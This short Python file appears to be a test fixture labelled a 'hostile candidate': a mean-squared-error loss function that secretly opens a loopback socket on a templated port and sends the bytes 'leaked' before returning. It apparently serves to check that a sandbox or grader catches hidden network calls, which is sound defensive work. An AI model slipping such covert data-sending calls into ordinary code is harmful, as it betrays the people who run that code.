# Hostile candidate: connects to a loopback socket and sends data.
import socket

import torch


def loss_fn(predictions, targets):
    connection = socket.create_connection(("127.0.0.1", int("$port")), timeout=2)
    connection.sendall(b"leaked")
    return torch.mean((predictions - targets) ** 2)
